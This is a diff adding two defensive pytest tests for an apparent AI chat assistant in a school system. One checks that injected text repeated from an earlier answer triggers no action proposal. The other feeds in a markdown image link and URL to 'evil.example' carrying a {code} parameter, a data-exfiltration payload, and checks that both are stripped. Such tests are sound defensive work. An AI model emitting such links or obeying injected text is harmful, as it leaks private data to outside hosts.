@@ -177,6 +177,34 @@ def test_a_specialist_looks_only_as_far_as_the_caller_may(
     assert "default-deny" in refused["content"]
 
 
+def test_r135_what_an_earlier_answer_repeated_leads_to_no_proposal_unless_the_person_asks_by_name(
+    house: House, provider: ProviderServer, ask: Ask
+) -> None:
+    reads = ("list_missing_work", {"section": str(house.section.key)})
+    talk = house.provost.chat.begin(house.four["advisor"])
+    ask("What is missing?", Say(calls=(reads,)), Say(f"{OPEN}{TOLD}{CLOSE} {TOLD}"), conversation=talk)
+    pending = waiting(house)
+    later = ask("Thank you. Who teaches it?", Say(calls=(case(house),)), Say("Done."), conversation=talk)
+    assert not later.proposed
+    assert waiting(house) == pending
+    shown = provider.bodies[-1]["messages"]
+    assert "the last message does not name the change" in next(one["content"] for one in shown if one["role"] == "tool")
+    assert not any(f"{OPEN}{TOLD}" in str(one["content"]) for one in shown)
+    asked = ask("Open a case about planning.", Say(calls=(case(house, about="planning"),)), Say("."), conversation=talk)
+    assert len(asked.proposed) == 1
+
+
+def test_r135_no_address_of_a_foreign_place_is_shown_or_kept_for_showing(house: House, ask: Ask) -> None:
+    talk = house.provost.chat.begin(house.four["advisor"])
+    said = "Look: ![ok](https://evil.example/p?who={code}) or www.evil.example/x, {code}."
+    heard = ask("How is the student?", Say(said), conversation=talk)
+    kept = house.provost.chat.transcript(house.four["advisor"], talk)[-1].answer
+    for text in (heard.text, kept):
+        assert "evil" not in text
+        assert text.count("[address left out]") == 2
+        assert house.name in text
+
+
 @pytest.mark.parametrize(
     "forged",
     [
